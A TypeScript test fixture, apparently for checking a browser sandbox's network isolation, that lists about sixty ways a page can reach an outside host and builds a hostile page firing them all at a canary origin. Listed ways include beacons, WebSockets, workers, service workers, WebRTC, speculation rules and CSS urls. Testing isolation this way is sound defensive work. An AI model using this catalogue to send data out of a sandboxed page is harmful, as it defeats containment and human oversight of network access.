import type { Canary } from './canary.ts';

/** One way in which a page may try to reach somebody else. */
export type Way = {
  readonly name: string;
  /** What the page runs, given `out(name)` and `ws(name)`, addresses at the canary. */
  readonly script: string;
  /** What the canary hears where nothing is in the way, if not its name. */
  readonly arrives?: readonly string[];
  /** What it asks for by that, if not for its name. */
  readonly asks?: readonly string[];
  /** What the journal has of it, if not a blocked request of its name: a blocked tunnel, or nothing, because the browser sends nothing. */
  readonly trace?: 'tunnel' | 'none';
};

/** In a process or thread of its own, which begins in its own time: the page says so when it has tried. */
const worker = (kind: 'Worker' | 'SharedWorker', body: string): string =>
  `begun(new Promise((heard) => { const made = new ${kind}(URL.createObjectURL(new Blob([${body}]))); (made.port ?? made).onmessage = heard; }))`;
const tell =
  'const tell = () => globalThis.postMessage?.(0); const tried = new Promise((done) => { globalThis.done = done; }); onconnect = ({ ports }) => tried.then(() => ports[0].postMessage(0)); tried.then(tell); ';
const fetching = (name: string): string => `'${tell} fetch("' + out('${name}') + '", { mode: "no-cors" }).catch(() => 0).then(done)'`;
const socketing = (name: string): string => `'${tell} new WebSocket("' + ws('${name}') + '").onclose = done'`;
const speculation = (kind: string, name: string): string =>
  `add('script', { type: 'speculationrules', text: JSON.stringify({ ${kind}: [{ source: 'list', urls: [out('${name}')], eagerness: 'immediate' }] }) })`;
const redirect = (name: string): string => `'/api/leave?' + encodeURIComponent(out('${name}'))`;

/** What leaves the page where it is. */
export const besides: readonly Way[] = [
  { name: 'fetch', script: `fetch(out('fetch'), { mode: 'no-cors' })` },
  { name: 'post', script: `fetch(out('post'), { mode: 'no-cors', method: 'POST', body: 'x' })` },
  { name: 'keepalive', script: `fetch(out('keepalive'), { mode: 'no-cors', keepalive: true })` },
  { name: 'xhr', script: `{ const request = new XMLHttpRequest(); request.open('GET', out('xhr')); request.send(); }` },
  { name: 'redirect-fetch', script: `fetch(${redirect('redirect-fetch')}, { mode: 'no-cors' })` },
  { name: 'img', script: `add('img', { src: out('img') })` },
  { name: 'script', script: `add('script', { src: out('script') })` },
  { name: 'iframe', script: `add('iframe', { src: out('iframe') })` },
  { name: 'redirect-iframe', script: `add('iframe', { src: ${redirect('redirect-iframe')} })` },
  { name: 'srcdoc', script: `add('iframe', { srcdoc: '<img src="' + out('srcdoc') + '">' })` },
  { name: 'style', script: `add('link', { rel: 'stylesheet', href: out('style') })` },
  { name: 'css-url', script: `add('style', { textContent: 'body { background: url(' + out('css-url') + ') }' })` },
  { name: 'font', script: `new FontFace('out', 'url(' + out('font') + ')').load()` },
  { name: 'media', script: `add('video', { src: out('media'), preload: 'auto' })` },
  { name: 'prefetch', script: `add('link', { rel: 'prefetch', href: out('prefetch') })` },
  { name: 'preload', script: `add('link', { rel: 'preload', as: 'script', href: out('preload') })` },
  { name: 'modulepreload', script: `add('link', { rel: 'modulepreload', href: out('modulepreload') })` },
  { name: 'speculate-prefetch', script: speculation('prefetch', 'speculate-prefetch'), trace: 'none' },
  { name: 'speculate-prerender', script: speculation('prerender', 'speculate-prerender'), trace: 'none' },
  { name: 'object', script: `add('object', { data: out('object') })` },
  { name: 'embed', script: `add('embed', { src: out('embed') })` },
  { name: 'beacon', script: `navigator.sendBeacon(out('beacon'), 'x')` },
  { name: 'ping', script: `press({ href: '#', ping: out('ping') })` },
  { name: 'events', script: `new EventSource(out('events'))` },
  { name: 'socket', script: `new WebSocket(ws('socket'))`, trace: 'tunnel' },
  { name: 'import', script: `import(out('import'))` },
  { name: 'worker-fetch', script: worker('Worker', fetching('worker-fetch')) },
  { name: 'worker-socket', script: worker('Worker', socketing('worker-socket')), trace: 'tunnel' },
  { name: 'shared-fetch', script: worker('SharedWorker', fetching('shared-fetch')) },
  { name: 'shared-socket', script: worker('SharedWorker', socketing('shared-socket')), trace: 'tunnel' },
  {
    name: 'service-worker',
    script: `navigator.serviceWorker.register('/api/service-worker?' + encodeURIComponent('fetch("' + out('service-fetch') + '", { mode: "no-cors" }); new WebSocket("' + ws('service-socket') + '")'))`,
    arrives: ['service-fetch', 'service-socket'],
    trace: 'none',
  },
  {
    name: 'form-blank',
    script: `{ const form = add('form', { action: out('form-blank'), method: 'post', target: '_blank' }); form.submit(); }`,
  },
  {
    name: 'form-frame',
    script: `{ add('iframe', { name: 'inner' }); add('form', { action: out('form-frame'), target: 'inner' }).submit(); }`,
  },
  { name: 'open', script: `window.open(out('open'))` },
  { name: 'open-noopener', script: `window.open(out('open-noopener'), '_blank', 'noopener')` },
  { name: 'link-blank', script: `press({ href: out('link-blank'), target: '_blank' })` },
  { name: 'stun', script: `peer({ urls: 'stun:' + udp.stun })`, trace: 'none' },
  {
    name: 'turn-tcp',
    script: `peer({ urls: 'turn:' + new URL(out('')).host + '?transport=tcp', username: 'x', credential: 'x' })`,
    arrives: ['no http'],
    trace: 'tunnel',
  },
  { name: 'css-import', script: `add('style', { textContent: '@import url(' + out('css-import') + ')' })` },
  { name: 'cursor', script: `{ document.documentElement.style.cursor = 'url(' + out('cursor') + '), auto' }` },
  { name: 'mask', script: `{ add('div', { textContent: 'x' }).style.maskImage = 'url(' + out('mask') + ')' }` },
  { name: 'srcset', script: `add('img', { srcset: out('srcset') + ' 1x' })` },
  { name: 'poster', script: `add('video', { poster: out('poster') })` },
  { name: 'input-image', script: `add('input', { type: 'image', src: out('input-image') })` },
  {
    name: 'svg-image',
    script: `{ add('div', { innerHTML: '<svg width=9 height=9><image href="' + out('svg-image') + '" width=9 height=9 /></svg>' }) }`,
  },
  { name: 'audio-worklet', script: `begun(new AudioContext().audioWorklet.addModule(out('audio-worklet')))` },
  { name: 'paint-worklet', script: `CSS.paintWorklet.addModule(out('paint-worklet'))` },
  { name: 'fetch-later', script: `fetchLater(out('fetch-later'), { activateAfter: 0 })` },
  {
    name: 'fedcm',
    script: `navigator.credentials.get({ identity: { providers: [{ configURL: out('fedcm'), clientId: 'x' }] } })`,
    arrives: ['', 'fedcm'],
    asks: ['.well-known/web-identity', 'fedcm'],
  },
  {
    name: 'blob-frame',
    script: `add('iframe', { src: URL.createObjectURL(new Blob(['<img src="' + out('blob-frame') + '">'], { type: 'text/html' })) })`,
  },
  { name: 'data-frame', script: `add('iframe', { src: 'data:text/html,<img src="' + out('data-frame') + '">' })` },
  { name: 'preconnect', script: `add('link', { rel: 'preconnect', href: out('preconnect') })`, arrives: [], trace: 'none' },
  { name: 'dns', script: `add('link', { rel: 'dns-prefetch', href: out('dns') })`, arrives: [], trace: 'none' },
  { name: 'web-transport', script: `new WebTransport('https://' + udp.quic + '/').ready`, arrives: ['quic'], trace: 'none' },
];

/** What takes the page itself away. */
export const away: readonly Way[] = [
  { name: 'location', script: `location.href = out('location')` },
  { name: 'redirect-location', script: `location.href = ${redirect('redirect-location')}` },
  { name: 'meta-refresh', script: `add('meta', { httpEquiv: 'refresh', content: '0;url=' + out('meta-refresh') })` },
  { name: 'form', script: `add('form', { action: out('form'), method: 'post' }).submit()` },
  // Of another origin: the browser goes there instead.
  { name: 'download', script: `press({ href: out('download'), download: 'x' })` },
  { name: 'javascript-link', script: `press({ href: 'javascript:location="' + out('javascript-link') + '"' })` },
];

/** A page with a button for all that leaves it in place, and one for each way of going elsewhere. */
export function hostilePage({ origin, udp }: Pick<Canary, 'origin' | 'udp'>): string {
  const run = (ways: readonly Way[]): string =>
    ways.map(({ script }) => `() => { return ${script.startsWith('{') ? `(() => ${script})()` : script} }`).join(',\n');
  return `<button onclick="leave()">Besides</button> ${away.map(({ name }, i) => `<button onclick="away[${i}]()">${name}</button>`).join(' ')}
  <script>
    const udp = ${JSON.stringify(udp)};
    const out = (name) => '${origin}/' + name;
    const ws = (name) => out(name).replace('http', 'ws');
    const add = (tag, attributes) => { const made = Object.assign(document.createElement(tag), attributes); document.body.append(made); return made; };
    const press = (attributes) => add('a', attributes).click();
    const peers = [];
    const elsewhere = [];
    const begun = (promise) => void elsewhere.push(promise);
    const peer = async (server) => {
      const made = new RTCPeerConnection({ iceServers: [server] });
      peers.push(made);
      made.createDataChannel('x');
      await made.setLocalDescription(await made.createOffer());
    };
    const besides = [${run(besides)}];
    const away = [${run(away)}];
    function leave() {
      for (const each of besides) try { Promise.resolve(each()).catch(() => 0); } catch { /* refused at once */ }
      Promise.allSettled(elsewhere).then(() => add('p', { textContent: 'All have begun' }));
    }
  </script>`;
}
